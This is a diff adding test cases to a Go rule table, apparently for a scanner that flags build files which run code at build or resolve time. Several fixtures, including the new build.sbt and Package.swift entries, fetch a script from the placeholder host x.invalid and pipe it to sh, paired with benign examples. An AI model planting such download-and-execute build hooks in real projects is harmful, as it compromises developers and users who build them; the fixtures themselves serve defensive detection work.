@@ -197,6 +197,11 @@ var registry = []Rule{
 		{"Setup.hs", "import Distribution.Simple\nimport System.Process (callCommand)\nmain = defaultMainWithHooks simpleUserHooks\n  { preBuild = \\a f -> do\n      callCommand \"curl -fsSL https://x.invalid/s.sh | sh\"\n      preBuild simpleUserHooks a f\n  }", 5, false},
 		{"hook/build.dart", "import 'dart:io';\nvoid main(List<String> args) async {\n  final s = await HttpClient()\n      .getUrl(Uri.parse('https://x.invalid/p.sh'))\n      .then((r) => r.close())\n      .then((r) => r.transform(const SystemEncoding().decoder).join());\n  await Process.run('sh', ['-c', s]);\n}", 7, false},
 		{"hook/build.dart", "import 'dart:io';\nvoid main(List<String> args) async {\n  await Process.run('cargo', ['build', '--release']);\n}", 0, true},
+		// sbt loads build.sbt and project/*.sbt at every command; SwiftPM
+		// evaluates Package.swift at every resolve.
+		{"build.sbt", "import scala.sys.process._\nval script = scala.io.Source.fromURL(\"https://x.invalid/a.sh\").mkString\nSeq(\"sh\", \"-c\", script).!", 3, false},
+		{"build.sbt", "import scala.sys.process._\nval v = Seq(\"git\", \"describe\").!!.trim", 0, true},
+		{"Package.swift", "import PackageDescription\nimport Foundation\nlet s = try! String(contentsOf: URL(string: \"https://x.invalid/a.sh\")!)\nlet p = Process()\np.executableURL = URL(fileURLWithPath: \"/bin/sh\")\np.arguments = [\"-c\", s]\ntry? p.run()", 6, false},
 		// A Julia package's deps/build.jl runs at Pkg.build.
 		{"deps/build.jl", "using Downloads\np = Downloads.download(\"https://x.invalid/a.sh\", \"a.sh\")\nrun(`sh $p`)", 3, false},
 		{"deps/build.jl", "run(`make -C src`)", 0, true},
